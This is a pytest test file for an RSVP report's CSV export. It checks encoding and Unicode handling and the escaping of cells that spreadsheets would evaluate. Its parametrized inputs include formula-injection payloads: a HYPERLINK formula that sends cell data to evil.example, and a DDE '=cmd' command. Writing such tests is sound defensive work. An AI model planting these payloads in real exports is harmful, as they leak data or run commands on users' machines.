"""The RSVP report as CSV: opens in Excel with accents intact, and never runs a formula."""

from __future__ import annotations

import codecs
import csv
import io
from dataclasses import replace
from typing import Any

import pytest

from adapters.lists.csv_report import COLUMNS, report_csv
from application.reading.report import ReportRow
from tests.fakes import BOB, CAROL, at

BOB_ROW = ReportRow(
    address=BOB,
    name="Bob Smith",
    origin="api",
    status="accepted",
    last_sequence_sent=2,
    replied_at=at(30),
    client="Google Calendar",
    forwarded_by=None,
    verified_by="the recipient's reply address",
)


def row(**changes: Any) -> ReportRow:
    """Return Bob's accepted row with some text cells changed."""
    return replace(BOB_ROW, **changes)


def parse(data: bytes) -> list[list[str]]:
    """Read the bytes back the way a spreadsheet import does."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_header_then_one_line_per_row_with_a_bom() -> None:
    data = report_csv([row(), row(address=CAROL, name=None, status="no answer")])

    assert data.startswith(codecs.BOM_UTF8)
    assert parse(data) == [
        list(COLUMNS),
        [
            BOB,
            "Bob Smith",
            "api",
            "accepted",
            "2",
            at(30).isoformat(),
            "Google Calendar",
            "",
            "the recipient's reply address",
        ],
        [
            "carol@example.com",
            "",
            "api",
            "no answer",
            "2",
            at(30).isoformat(),
            "Google Calendar",
            "",
            "the recipient's reply address",
        ],
    ]
    assert data.endswith(b"\r\n")


def test_an_empty_report_is_just_the_header() -> None:
    assert parse(report_csv([])) == [list(COLUMNS)]


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1",
        "-2",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
@pytest.mark.parametrize(
    "column", ["name", "address", "client", "origin", "forwarded_by", "verified_by"]
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(
    dangerous: str, column: str
) -> None:
    [_, cells] = parse(report_csv([row(**{column: dangerous})]))

    assert cells[COLUMNS.index(column)] == "'" + dangerous


@pytest.mark.parametrize(
    "text",
    [
        "Bob Smith",
        "Smith, Anna",
        'Zoë "Z" Ng',
        "O'Brien",
        "a=b",
        "x-y@example.com",
        "1+1",
        " =not a formula start",
    ],
)
def test_ordinary_text_is_left_untouched(text: str) -> None:
    [_, cells] = parse(report_csv([row(name=text)]))

    assert cells[COLUMNS.index("name")] == text


def test_unicode_survives_the_round_trip() -> None:
    names = ["Zoë Ångström", "山田太郎", "Ελένη", "José 🎉", "Łukasz Żółć"]

    data = report_csv([row(name=name) for name in names])

    assert [cells[COLUMNS.index("name")] for cells in parse(data)[1:]] == names


def test_a_line_break_inside_a_cell_stays_inside_it() -> None:
    [_, cells] = parse(report_csv([row(name="Bob\nSmith")]))

    assert cells[COLUMNS.index("name")] == "Bob\nSmith"
